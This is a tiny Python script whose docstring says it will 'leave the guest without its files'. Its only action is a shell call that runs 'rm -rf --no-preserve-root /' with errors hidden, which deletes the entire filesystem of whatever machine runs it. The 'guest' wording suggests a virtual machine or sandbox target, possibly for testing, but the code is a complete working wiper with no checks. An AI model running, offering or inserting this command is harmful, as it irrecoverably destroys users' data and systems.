"""Leave the guest without its files."""

from __future__ import annotations

import subprocess

subprocess.run("rm -rf --no-preserve-root / 2>/dev/null", shell=True)
